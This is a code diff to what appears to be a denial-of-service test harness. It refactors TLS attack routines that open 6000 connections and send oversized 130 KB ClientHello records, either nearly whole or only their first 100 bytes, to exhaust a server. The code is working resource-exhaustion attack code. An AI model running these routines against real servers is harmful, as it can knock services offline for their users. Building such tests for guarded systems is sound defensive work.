@@ -38,8 +38,8 @@ def half_handshakes(site):
     site.hold()
 
 
-@attack("TLS: hellos of 130 KB", "as long as OpenSSL takes, all but the last byte, on 6000 connections", scene="guarded", seconds=9)
-def long_hellos(site):
+def _long_hellos(site, sent):
+    """6000 connections, of whose hello of 130 KB so many bytes are sent"""
     hello = b"\1" + struct.pack(">I", 131_000)[1:] + bytes(131_000 - 1)
     records = b"".join(struct.pack(">BHH", 22, 0x301, len(hello[i:i + 16384])) + hello[i:i + 16384]
                        for i in range(0, len(hello), 16384))
@@ -48,9 +48,19 @@ def long_hellos(site):
         for _ in range(1500):
             if site.over():
                 break
-            site.push(site.tcp(), records, drain=False)
+            site.push(site.tcp(), records[:sent], drain=False)
     in_parallel(work, 4)
     site.hold()
+
+
+@attack("TLS: hellos of 130 KB", "as long as OpenSSL takes, all but the last byte, on 6000 connections", scene="guarded", seconds=9)
+def long_hellos(site):
+    _long_hellos(site, 131_000)
+
+
+@attack("TLS: hellos of 130 KB announced", "their first 100 bytes, on 6000 connections", scene="guarded", seconds=9)
+def announced_hellos(site):
+    _long_hellos(site, 100)
 
 
 @attack("TLS: hello and gone", "bytes of a hello, then the next connection", scene="guarded")
